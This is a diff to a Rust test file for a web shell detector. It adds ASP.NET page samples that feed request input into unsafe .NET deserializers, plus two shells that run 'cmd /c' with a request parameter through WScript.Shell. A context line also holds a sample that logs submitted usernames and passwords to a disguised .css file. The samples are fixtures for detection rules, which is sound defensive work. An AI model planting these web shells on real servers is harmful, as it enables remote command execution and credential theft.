@@ -1372,6 +1372,35 @@ fn stop_28_vb_net_and_other_hosts() {
         "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object s, EventArgs e) {\n string u = Request.Form[\"username\"], p = Request.Form[\"password\"];\n System.IO.File.AppendAllText(@\"C:\\inetpub\\logs\\x.css\", u + \":\" + p + \"\\r\\n\");\n}\n</script>\n",
         "EXRAY_Credential_Logger",
     );
+    // deserializers fed through a name, or called by their other names
+    for page in [
+        "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object s, EventArgs e) {\n string v = Request.Form[\"__VSTATE\"];\n if (v != null) new System.Web.UI.ObjectStateFormatter().Deserialize(v);\n}\n</script>\n",
+        "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object s, EventArgs e) {\n var b = Convert.FromBase64String(Request.Headers[\"X-D\"]);\n var n = new System.Runtime.Serialization.NetDataContractSerializer();\n n.ReadObject(new System.IO.MemoryStream(b));\n}\n</script>\n",
+        "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object s, EventArgs e) {\n System.Windows.Markup.XamlReader.Parse(Request.Form[\"x\"]);\n}\n</script>\n",
+        "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object s, EventArgs e) {\n string body = new System.IO.StreamReader(Request.InputStream).ReadToEnd();\n var o = JsonConvert.DeserializeObject(body, new JsonSerializerSettings { TypeNameHandling = TypeNameHandling.All });\n}\n</script>\n",
+    ] {
+        has(page, "EXRAY_NET_Deserialize_Request");
+    }
+    // an application's own cache file, and JSON without type names, are not
+    for page in [
+        "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object s, EventArgs e) {\n string q = Request.QueryString[\"q\"];\n using (var f = System.IO.File.OpenRead(Server.MapPath(\"~/App_Data/cache.bin\"))) { var c = new BinaryFormatter().Deserialize(f); }\n lbl.Text = q;\n}\n</script>\n",
+        "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object s, EventArgs e) {\n var o = new JavaScriptSerializer().Deserialize<Dictionary<string, object>>(Request.Form[\"j\"]);\n}\n</script>\n",
+    ] {
+        assert!(
+            !hits(page).contains("EXRAY_NET_Deserialize_Request"),
+            "{:?}",
+            hits(page)
+        );
+    }
+    // WScript.Shell driven by name
+    has(
+        "<%@ Page Language=\"VB\" %>\n<script runat=\"server\">\nSub Page_Load(s As Object, e As EventArgs)\n Dim o As Object = Server.CreateObject(\"WScript.Shell\")\n Dim x As Object = CallByName(o, \"Exec\", CallType.Method, \"cmd /c \" & Request(\"c\"))\n Response.Write(x.StdOut.ReadAll())\nEnd Sub\n</script>\n",
+        "EXRAY_ASP_WScript_Shell_Exec",
+    );
+    has(
+        "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object s, EventArgs e) {\n var t = Type.GetTypeFromCLSID(new Guid(\"72C24DD5-D70A-438B-8A42-98424B88AFB8\"));\n var o = Activator.CreateInstance(t);\n t.InvokeMember(\"Run\", System.Reflection.BindingFlags.InvokeMethod, null, o, new object[] { \"cmd /c \" + Request[\"c\"], 0 });\n}\n</script>\n",
+        "EXRAY_ASP_WScript_Shell_Exec",
+    );
     // a typed declaration of the page's own value carries nothing
     let own = "<%@ Page Language=\"VB\" %>\n<script runat=\"server\">\nSub Page_Load(s As Object, e As EventArgs)\n Dim n As String = Request.Form(\"name\")\n Dim c As String = ConfigurationManager.AppSettings(\"tool\")\n System.Diagnostics.Process.Start(c)\n lbl.Text = n\nEnd Sub\n</script>\n";
     assert!(
